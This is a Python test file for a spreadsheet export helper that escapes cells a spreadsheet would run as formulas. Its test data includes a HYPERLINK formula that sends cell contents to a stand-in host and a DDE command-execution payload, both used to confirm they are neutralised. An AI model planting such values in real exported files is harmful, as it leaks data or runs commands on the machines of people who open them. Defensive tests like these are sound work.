from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from skillpath.domain.spreadsheet import FORMULA_STARTS, cell_for_spreadsheet, cell_from_spreadsheet


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("\tTab", "'\tTab"),
        ("\rReturn", "'\rReturn"),
        ("'s-Gravesande", "''s-Gravesande"),
        ("Ana Lima", "Ana Lima"),
        ("", ""),
        (-3, "-3"),
        (None, ""),
    ],
)
def test_cells_that_a_spreadsheet_would_run_are_escaped(value: object, cell: str) -> None:
    assert cell_for_spreadsheet(value) == cell


def test_an_apostrophe_typed_by_a_person_stays() -> None:
    assert cell_from_spreadsheet("'s-Gravesande") == "'s-Gravesande"
    assert cell_from_spreadsheet("O'Brien") == "O'Brien"


@given(st.text())
def test_escaping_is_undone_exactly_and_never_leaves_a_formula(text: str) -> None:
    cell = cell_for_spreadsheet(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell_from_spreadsheet(cell) == text
